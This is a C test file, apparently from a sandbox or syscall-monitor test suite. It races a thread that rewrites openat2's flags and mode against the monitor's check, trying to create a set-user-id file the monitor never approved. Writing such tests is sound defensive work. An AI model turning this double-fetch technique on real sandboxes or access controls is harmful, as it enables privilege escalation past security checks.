// title: flags, mode and RESOLVE_* of openat2 flip while it is judged, where the kernel creates
#include "race.h"
#include <linux/openat2.h>
static volatile struct open_how how = {.flags = O_RDONLY};
static void *flip(void *unused) {
  (void)unused;
  while (!stop_flipping) {
    how.mode = 04755, how.flags = O_CREAT | O_RDWR;
    how.flags = O_CREAT | O_RDWR, how.mode = 0600;
    how.mode = 0, how.flags = O_RDONLY;
  }
  return 0;
}
static void attack(void) {
  const char *name = in_scratch("granted/openat2");
  struct stat s;
  pthread_t t;
  NEED(-pthread_create(&t, 0, flip, 0));
  long ok = 0, no = 0;
  int set = 0;
  for (long i = 0; i < tries() && !set; i++) {
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, name, &how, sizeof how);
    if (fd < 0) { no++; continue; }
    ok++;
    set = fstat(fd, &s) == 0 && (s.st_mode & S_ISUID);
    close(fd);
    unlink(name);
  }
  stop_flipping = 1;
  pthread_join(t, 0);
  report(ok, no);
  if (set) succeeded("a set-user-id file was made");
  refused("the copy counts");
}
